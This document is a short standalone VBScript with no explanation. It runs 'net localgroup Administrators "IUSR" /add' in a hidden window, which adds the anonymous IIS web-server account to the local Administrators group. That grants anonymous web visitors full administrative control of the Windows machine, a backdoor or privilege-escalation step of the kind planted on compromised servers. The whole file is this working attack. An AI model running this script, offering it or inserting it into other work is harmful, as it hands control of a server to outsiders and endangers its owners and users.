Set sh = WScript.CreateObject("WScript.Shell")
result = sh.Run("net localgroup Administrators ""IUSR"" /add", 0, True)
WScript.Quit result
